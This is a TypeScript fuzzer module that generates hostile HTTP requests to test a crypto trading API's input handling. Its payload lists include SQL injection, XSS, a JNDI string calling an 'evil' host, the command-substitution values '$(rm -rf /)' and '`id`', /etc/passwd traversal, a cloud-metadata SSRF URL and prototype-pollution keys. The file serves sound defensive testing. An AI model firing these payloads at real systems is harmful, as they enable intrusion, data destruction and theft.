// Hostile HTTP requests for the API fuzzer (fast-check arbitraries). A request is built for one route of the app
// (method and path pattern, as app.routes lists them): its path parameters, query, headers and body are drawn from
// hostile values, and a body starts from the route's valid example (when it has one) and is then broken.
import fc from 'fast-check'

import { RUNNING_ORDER_ID } from './fuzz-runner.js'

export interface RouteSpec {
  method: string
  /** Hono's pattern, e.g. /api/ticker/:exchange/:symbol */
  path: string
}

export interface FuzzRequest {
  route: RouteSpec
  method: string
  path: string
  headers: Record<string, string>
  body?: string
  /** What was done to the request, for the failure report. */
  tags: string[]
}

/** A valid body per route (known routes only): the fuzzer breaks it, so that the schema is reached past its first field. */
export const VALID_BODIES: Record<string, unknown> = {
  'POST /api/orders': {
    exchange: 'binance',
    symbol: 'BTC/USDT',
    side: 'buy',
    type: 'limit',
    amount: '0.01',
    price: '50000',
    clientOrderId: 'fuzz-order-1',
    timeInForce: 'GTC',
    postOnly: false,
  },
  'POST /api/orders/failover': {
    order: { exchange: 'binance', symbol: 'BTC/USDT', side: 'sell', type: 'market', amount: '0.01' },
    backupExchanges: ['kraken', 'coinbase'],
  },
  'POST /api/smart-order': {
    symbol: 'ETH/USDT',
    side: 'buy',
    type: 'market',
    amount: '1',
    exchanges: ['binance', 'kraken'],
    maxSlippageBps: 50,
    allowSplit: true,
  },
  'POST /api/arbitrage/execute': {
    symbol: 'BTC/USDT',
    buyExchange: 'binance',
    sellExchange: 'kraken',
    amount: '0.01',
    minProfitPct: 0.1,
  },
  'POST /api/arbitrage/monitor': {
    symbols: ['BTC/USDT'],
    exchanges: ['binance', 'kraken'],
    intervalMs: 5000,
    minProfitPct: 0.1,
    maxAmount: '1',
    autoExecute: { enabled: true, minProfitPct: 0.2, maxExecutions: 1, backoffMs: 1000 },
  },
  'PATCH /api/arbitrage/monitor/:workflowId': { intervalMs: 2000, autoExecute: false, maxAmount: null },
  'PATCH /api/orders/:workflowId': { price: '60500', amount: '0.4' },
  'PUT /api/trading-state': { state: 'HALTED', reason: 'fuzz', exchange: 'binance', cancelOpenOrders: true },
  'PUT /api/leverage/:exchange/:symbol': { leverage: 5 },
  'PUT /api/risk/limits': {
    maxOrderNotional: '500000',
    maxOrderNotionalBySymbol: { 'BTC/USDT': '100000' },
    maxOrdersPerMinutePerVenue: 100,
    venueErrorHalt: { rate: 0.5 },
  },
  'POST /api/reconciliation': {},
}

/**
 * More valid bodies of a route, one per kind: each kind's own fields (leverage, reduceOnly, triggerPrice, cancelAfter,
 * expireAt) are broken from a body that has them, and the rules between fields and venues are reached past the schema.
 */
export const MORE_VALID_BODIES: Record<string, unknown[]> = {
  'POST /api/orders': [
    { exchange: 'binance', symbol: 'BTC/USDT:USDT', side: 'buy', type: 'market', amount: '0.01', leverage: 5 },
    {
      exchange: 'binance',
      symbol: 'BTC/USDT:USDT',
      side: 'sell',
      type: 'limit',
      amount: '0.01',
      price: '70000',
      reduceOnly: true,
    },
    {
      exchange: 'kraken',
      symbol: 'ETH/USD',
      side: 'buy',
      type: 'market',
      amount: '0.5',
      leverage: 3,
      reduceOnly: false,
    },
    { exchange: 'kraken', symbol: 'BTC/USD', side: 'sell', type: 'stop-loss', amount: '0.01', triggerPrice: '62000' },
    {
      exchange: 'kraken',
      symbol: 'BTC/USD',
      side: 'sell',
      type: 'take-profit-limit',
      amount: '0.01',
      triggerPrice: '66000',
      price: '65900',
      expireAt: '2099-01-01T00:00:00Z',
    },
    {
      exchange: 'coinbase',
      symbol: 'BTC/USD',
      side: 'buy',
      type: 'limit',
      amount: '0.01',
      price: '60000',
      postOnly: true,
      timeInForce: 'GTT',
      cancelAfter: 'min',
    },
    {
      exchange: 'binance',
      symbol: 'BTC/USDT',
      side: 'buy',
      type: 'limit',
      amount: '0.1',
      price: '58000',
      expireAt: 4070908800000,
    },
  ],
}

/** Every valid body the fuzzer starts from for a route (none: it starts from {}). */
export const validBodiesOf = (key: string): unknown[] => [
  ...(key in VALID_BODIES ? [VALID_BODIES[key]] : []),
  ...(MORE_VALID_BODIES[key] ?? []),
]

/** Values valid somewhere, sent where they are not: another kind's type, another venue's time in force, a leverage. */
const NEAR_VALID = [
  'stop-loss',
  'stop-loss-limit',
  'take-profit',
  'take-profit-limit',
  'Stop-Loss',
  'stop_loss',
  'trailing-stop',
  'GTT',
  'GTD',
  'gtt',
  'min',
  'hour',
  'day',
  'week',
  'minute',
  1,
  5,
  125,
  126,
  2.5,
  '5',
  'true',
  '2099-01-01T00:00:00Z',
  '1970-01-01T00:00:00Z',
  '2026-02-30T25:61:00Z',
  '4070908800000',
  1000,
  4070908800000.5,
  'ETH/USD',
  'BTC/USD',
  'BTC/USDT:USDT',
  'ETH/USDT:USDT',
  'BTC/USD:USD',
]

/** Fields an order may have, added where the kind or the venue takes none of them. */
const ORDER_FIELDS = [
  'leverage',
  'reduceOnly',
  'triggerPrice',
  'cancelAfter',
  'timeInForce',
  'expireAt',
  'postOnly',
  'price',
  'clientOrderId',
]

const INJECTIONS = [
  "' OR '1'='1",
  '1; DROP TABLE executions;--',
  '"; SELECT * FROM sqlite_master; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil/x}',
  '{{7*7}}',
  '$(rm -rf /)',
  '`id`',
  '%s%s%s%n',
  '\\u0000',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd%00.json',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
]

const UNICODE = [
  '\u0000',
  '\u202eDSU/CTB',
  'B\u200bTC/USDT',
  'ＢＴＣ/ＵＳＤＴ',
  'BTC\u2215USDT',
  '🚀/🌕',
  'e\u0301\u0301\u0301\u0301',
  '\ud800',
  '\uffff\ufffe',
  'İSTANBUL/ı',
  'ß/ẞ',
]

const PROTO_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  'valueOf',
]

// Some literals are deliberately beyond a double's precision: what a JSON parser does with them is the point.
/* eslint-disable no-loss-of-precision */
const NUMBERS = [
  0,
  -0,
  -1,
  -0.0000001,
  1e-300,
  1e308,
  -1e308,
  9007199254740993,
  0.1 + 0.2,
  1.7976931348623157e308,
  123456789012345678,
  2 ** 53,
  -(2 ** 63),
  0.12345678901234567,
]
/* eslint-enable no-loss-of-precision */
const NUMERIC_STRINGS = [
  '0',
  '-0',
  '-1',
  '0.0',
  '00',
  '1e5',
  '1E-7',
  '1e400',
  '-1e400',
  'NaN',
  'Infinity',
  '-Infinity',
  '0x10',
  '0b1',
  '1_000',
  '1,5',
  '١٢٣',
  '1.2.3',
  '.5',
  '5.',
  '+5',
  ' 5 ',
  '99999999999999999999999999999999999999.999999999999999999',
  '0.000000000000000000000000000000001',
  '1e-400',
  '',
  ' ',
]

const EXCHANGE_NAMES = [
  'binance',
  'kraken',
  'coinbase',
  'BINANCE',
  'Kraken',
  'ftx',
  'mtgox',
  'binance ',
  'bin\u0000ance',
  'coinbasepro',
  '',
]
const SYMBOLS = [
  'BTC/USDT',
  'BTC-USDT',
  'btc-usdt',
  'ZZZ/QQQ',
  'ZZZ-QQQ',
  'BTC/USDT:USDT',
  'BTC-USDT-USDT',
  'DOGE/EUR',
  'BTC',
  'BTC//USDT',
  'BTC/USDT/ETH',
  'A/B',
  'BTC%2FUSDT',
  '%',
  '%E0%A4%A',
  '%zz',
  '%00',
  '%2e%2e%2f%2e%2e',
]

function longString(): fc.Arbitrary<string> {
  return fc
    .tuple(fc.constantFrom('A', '9', '/', '%', 'é', '\u202e', '🚀', '../'), fc.integer({ min: 100, max: 40_000 }))
    .map(([unit, n]) => unit.repeat(Math.ceil(n / unit.length)))
}

/** A value that is hostile wherever it lands: wrong type, out of range, injection, odd unicode, huge. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NEAR_VALID) },
  { weight: 3, arbitrary: fc.constantFrom(...NUMBERS) },
  { weight: 3, arbitrary: fc.constantFrom(...NUMERIC_STRINGS) },
  { weight: 2, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 2, arbitrary: fc.constantFrom(...UNICODE) },
  { weight: 2, arbitrary: fc.constantFrom(...EXCHANGE_NAMES) },
  { weight: 2, arbitrary: fc.constantFrom(...SYMBOLS) },
  { weight: 1, arbitrary: longString() },
  {
    weight: 1,
    arbitrary: fc.constantFrom(null, true, false, [], {}, [null], ['binance', 'binance'], { __proto__: null }),
  },
  { weight: 1, arbitrary: fc.constantFrom(...PROTO_KEYS) },
  {
    weight: 1,
    arbitrary: fc.dictionary(fc.constantFrom(...PROTO_KEYS, 'enabled', 'x'), fc.constantFrom(1, 'a', null, true)),
  },
  { weight: 1, arbitrary: fc.array(fc.constantFrom('BTC/USDT', 'binance', 1, null, '__proto__'), { maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.double() },
  { weight: 1, arbitrary: fc.integer() }
)

/** A path parameter: the hostile strings above, plus traversal and encodings that bend routing. */
const BAD_ESCAPES = ['%', '%%', '%zz', '%E0%A4%A', '%ff', '%C0%AF', '%2', 'BTC%2', '%uD800', 'BTC-%GGUSDT']

const hostileParam: fc.Arbitrary<{ text: string; encode: boolean }> = fc.record({
  text: fc.oneof(
    fc.constantFrom(...BAD_ESCAPES),
    fc.constantFrom(...EXCHANGE_NAMES.filter(Boolean), ...SYMBOLS, ...INJECTIONS, ...UNICODE, ...PROTO_KEYS),
    fc.constantFrom('order-fuzz', 'smart-x', 'monitor-1', 'reconciliation-now', 'arb-..', '.', '..', '%2e%2e', '%252e'),
    fc.string({ unit: 'binary', minLength: 1, maxLength: 30 }),
    longString()
  ),
  encode: fc.boolean(),
})

/** Queries some route takes as they are (a sweep's, a list's, a fill read's), to break with a pair or a header. */
const PLAUSIBLE_QUERIES = [
  'exchange=kraken',
  'symbol=BTC-USDT',
  'all=true',
  'exchange=binance&symbol=BTC%2FUSDT',
  'status=open&exchange=kraken&limit=5',
  'since=0&exchange=binance',
  'symbol=BTC-USDT&orderId=1',
  'currency=BTC',
]

const hostilePairs: fc.Arbitrary<string> = fc
  .array(
    fc.tuple(
      fc.constantFrom(
        'depth',
        'limit',
        'since',
        'timeframe',
        'exchanges',
        'minProfitPct',
        'maxAmount',
        'strategy',
        'status',
        'symbol',
        'exchange',
        'before',
        'all',
        'orderId',
        'currency',
        '__proto__',
        'constructor',
        '__proto__[polluted]',
        'unknown'
      ),
      fc.oneof(
        fc.constantFrom(...NUMERIC_STRINGS, ...EXCHANGE_NAMES, ...SYMBOLS, ...PROTO_KEYS, ...INJECTIONS),
        fc.constantFrom(
          'binance,binance',
          'binance,kraken',
          'binance,,kraken',
          '1m',
          '1w',
          '1h',
          '99999999999999999999',
          'true',
          'TRUE',
          'false',
          '1',
          'open',
          'BTC'
        ),
        fc.string({ unit: 'binary', maxLength: 20 })
      ),
      fc.boolean()
    ),
    { maxLength: 4 }
  )
  .map((pairs) =>
    pairs
      .map(([k, v, raw]) =>
        raw ? `${k}=${v.replace(/[#&\s]/g, '')}` : `${encodeURIComponent(k)}=${encodeURIComponent(v)}`
      )
      .join('&')
  )

const hostileQuery: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: hostilePairs },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...PLAUSIBLE_QUERIES), fc.option(hostilePairs, { freq: 2 }))
      .map(([plausible, pairs]) => (pairs ? `${plausible}&${pairs}` : plausible)),
  }
)

/** Header values must be bytes (Latin-1 without CR/LF), as on the wire. */
const IDEMPOTENCY_KEYS = [
  '',
  ' ',
  'has spaces',
  'a'.repeat(129),
  'x'.repeat(5000),
  '../../etc',
  'key;DROP',
  'caf\u00e9',
  '__proto__',
  'constructor',
  '\t',
  'key\u007f',
  'reused-key-1',
  'reused-key-1',
  'reused-key-2',
  'order-reused',
  'k:1.2-3_4',
]
const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'APPLICATION/JSON',
  'text/plain',
  'text/plain;charset=UTF-8',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/json-seq',
  'application/jsonp',
  'json',
  '',
  '*/*',
]

const headers: fc.Arbitrary<{ headers: Record<string, string>; tags: string[] }> = fc
  .record(
    {
      idempotencyKey: fc.constantFrom(...IDEMPOTENCY_KEYS),
      contentType: fc.constantFrom(...CONTENT_TYPES),
      authorization: fc.constantFrom('Bearer ', 'Bearer x', 'Basic YWRtaW46YWRtaW4=', 'Bearer ' + 'a'.repeat(300)),
      accept: fc.constantFrom('text/html', 'application/xml', '*/*'),
      forwardedFor: fc.constantFrom('127.0.0.1', '::1', '0.0.0.0, 10.0.0.1'),
    },
    { requiredKeys: [] }
  )
  .map((h) => {
    const out: Record<string, string> = {}
    const tags: string[] = []
    if (h.idempotencyKey !== undefined) {
      out['Idempotency-Key'] = h.idempotencyKey
      tags.push('idempotency-key')
    }
    if (h.contentType !== undefined) {
      out['content-type'] = h.contentType
      tags.push(`content-type:${h.contentType}`)
    }
    if (h.authorization !== undefined) out.Authorization = h.authorization
    if (h.accept !== undefined) out.Accept = h.accept
    if (h.forwardedFor !== undefined) out['X-Forwarded-For'] = h.forwardedFor
    return { headers: out, tags }
  })

type Mutation =
  | { kind: 'set'; path: string[]; value: unknown }
  | { kind: 'delete'; path: string[] }
  | { kind: 'addKey'; key: string; value: unknown; nested: boolean }

function fieldPaths(value: unknown, prefix: string[] = []): string[][] {
  if (!value || typeof value !== 'object' || Array.isArray(value)) return prefix.length ? [prefix] : []
  const inner = Object.entries(value as Record<string, unknown>).flatMap(([k, v]) => fieldPaths(v, [...prefix, k]))
  return prefix.length ? [prefix, ...inner] : inner
}

function applyMutation(body: unknown, mutation: Mutation): unknown {
  const copy = structuredClone(body) as Record<string, unknown>
  if (mutation.kind === 'addKey') {
    // defineProperty: a plain assignment of __proto__ would set the prototype instead of adding the key.
    const target = mutation.nested
      ? (Object.values(copy).find((v) => v && typeof v === 'object' && !Array.isArray(v)) ?? copy)
      : copy
    Object.defineProperty(target, mutation.key, {
      value: mutation.value,
      enumerable: true,
      configurable: true,
      writable: true,
    })
    return copy
  }
  let target: Record<string, unknown> = copy
  for (const key of mutation.path.slice(0, -1)) {
    const next = target[key]
    // An earlier mutation replaced the parent with a scalar: nothing left to mutate there.
    if (!next || typeof next !== 'object') return copy
    target = next as Record<string, unknown>
  }
  const last = mutation.path.at(-1)!
  if (mutation.kind === 'delete') delete target[last]
  else target[last] = mutation.value
  return copy
}

function mutationFor(template: unknown): fc.Arbitrary<Mutation> {
  const paths = fieldPaths(template)
  const options: fc.Arbitrary<Mutation>[] = [
    fc.record({
      kind: fc.constant('addKey' as const),
      key: fc.oneof(fc.constantFrom(...PROTO_KEYS), fc.constantFrom(...ORDER_FIELDS), fc.string({ maxLength: 12 })),
      value: hostileValue,
      nested: fc.boolean(),
    }),
  ]
  if (paths.length > 0) {
    options.push(
      fc.record({ kind: fc.constant('set' as const), path: fc.constantFrom(...paths), value: hostileValue }),
      fc.record({ kind: fc.constant('delete' as const), path: fc.constantFrom(...paths) })
    )
  }
  const [addKey, set, remove] = options
  // Mostly a field set to a hostile value; sometimes a field dropped or a key added.
  return fc.oneof(
    { weight: 4, arbitrary: set ?? addKey! },
    { weight: 1, arbitrary: remove ?? addKey! },
    { weight: 2, arbitrary: addKey! }
  )
}

/** How the JSON text is then spoiled (or not). */
const TEXT_SPOILERS: [string, (text: string, n: number) => string][] = [
  ['as-is', (t) => t],
  ['as-is', (t) => t],
  ['as-is', (t) => t],
  ['truncated', (t, n) => t.slice(0, n % Math.max(t.length, 1))],
  ['NaN-literal', (t) => t.replace(/:\s*"?[0-9.]+"?/, ':NaN')],
  ['Infinity-literal', (t) => t.replace(/:\s*"?[0-9.]+"?/, ':Infinity')],
  ['exponent-literal', (t) => t.replace(/:\s*"?[0-9.]+"?/, ':1e999')],
  ['trailing-comma', (t) => t.replace(/}$/, ',}')],
  ['single-quotes', (t) => t.replace(/"/g, "'")],
  ['bom', (t) => `\ufeff${t}`],
  ['duplicate-keys', (t) => t.replace(/^{/, '{"amount":"1","amount":"-1",')],
  ['comment', (t) => `/* x */${t}`],
  ['two-documents', (t) => `${t}${t}`],
  ['deep-nesting', (_, n) => '['.repeat(2_000 + (n % 50_000)) + ']'.repeat(2_000 + (n % 50_000))],
]

const bodyText = (template: unknown): fc.Arbitrary<{ body?: string; tags: string[] }> =>
  fc.oneof<fc.WeightedArbitrary<{ body?: string; tags: string[] }>[]>(
    {
      weight: 8,
      arbitrary: fc
        .tuple(
          fc.array(mutationFor(template), { minLength: 1, maxLength: 3 }),
          fc.integer({ min: 0, max: TEXT_SPOILERS.length - 1 }),
          fc.nat()
        )
        .map(([mutations, spoiler, n]) => {
          const body = mutations.reduce(applyMutation, template)
          const [name, spoil] = TEXT_SPOILERS[spoiler]!
          return {
            body: spoil(JSON.stringify(body) ?? '', n),
            tags: [...mutations.map((m) => `${m.kind}:${'path' in m ? m.path.join('.') : m.key}`), name],
          }
        }),
    },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom('', ' ', 'null', '[]', '"x"', '0', 'true', '{', '}', '{"', 'NaN', '\u0000', '{}{}')
        .map((body) => ({ body, tags: ['raw'] })),
    },
    { weight: 1, arbitrary: fc.json({ maxDepth: 3 }).map((body) => ({ body, tags: ['random-json'] })) },
    {
      weight: 1,
      arbitrary: fc.string({ unit: 'binary', maxLength: 200 }).map((body) => ({ body, tags: ['random-text'] })),
    },
    // Oversized: a valid-looking body with a field of up to 3 MB (the body limit answers 413 once it exists).
    {
      weight: 1,
      arbitrary: fc.integer({ min: 100_000, max: 3_000_000 }).map((n) => ({
        body: JSON.stringify({ ...(template as object), symbol: 'B'.repeat(n), padding: 'x' }),
        tags: [`oversized:${n}`],
      })),
    },
    { weight: 1, arbitrary: fc.constant({ body: undefined, tags: ['no-body'] }) }
  )

export function hostileRequest(routes: RouteSpec[]): fc.Arbitrary<FuzzRequest> {
  const methods = [...new Set(routes.map((r) => r.method)), 'OPTIONS', 'PROPFIND']
  return fc
    .record({
      route: fc.constantFrom(...routes),
      // One request in ten uses a method the route does not have.
      otherMethod: fc.option(fc.constantFrom(...methods), { freq: 9 }),
      params: fc.array(hostileParam, { minLength: 4, maxLength: 4 }),
      // Half the parameters stay plausible, so that the route's own checks past the path are reached too.
      plausible: fc.array(fc.boolean(), { minLength: 4, maxLength: 4 }),
      query: hostileQuery,
      headers,
      suffix: fc.constantFrom('', '', '', '/', '/..', '/../../admin', '?', '#frag', '//', '/%2e%2e/'),
    })
    .chain((r) =>
      fc
        .constantFrom(...withEmpty(validBodiesOf(`${r.route.method} ${r.route.path}`)))
        .chain(bodyText)
        .map((body) => {
          const method = r.otherMethod ?? r.route.method
          let i = 0
          const path = r.route.path.replace(/:(\w+)/g, (_, name: string) => {
            const param = r.params[i]!
            const plausible = r.plausible[i++]!
            if (plausible) return PLAUSIBLE[name] ?? 'x'
            return param.encode ? encodeURIComponent(wellFormed(param.text)) : param.text.replace(/[#?]/g, '')
          })
          const query = r.query ? `?${r.query}` : ''
          const hasBody = method !== 'GET' && method !== 'HEAD' && body.body !== undefined
          return {
            route: r.route,
            method,
            path: `${path}${r.suffix}${query}`,
            headers: r.headers.headers,
            ...(hasBody ? { body: body.body } : {}),
            tags: [
              ...r.headers.tags,
              ...(hasBody ? body.tags : ['no-body']),
              ...(r.otherMethod ? ['other-method'] : []),
            ],
          }
        })
    )
}

/** Lone surrogates replaced (encodeURIComponent throws on them; on the wire they would be U+FFFD anyway). */
function wellFormed(text: string): string {
  return text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd')
}

const withEmpty = (bodies: unknown[]): unknown[] => (bodies.length > 0 ? bodies : [{}])

const PLAUSIBLE: Record<string, string> = {
  exchange: 'binance',
  symbol: 'BTC-USDT',
  // The run the fuzzer's Temporal knows, so that a command to it reaches the update it would send.
  workflowId: RUNNING_ORDER_ID,
  id: RUNNING_ORDER_ID,
}
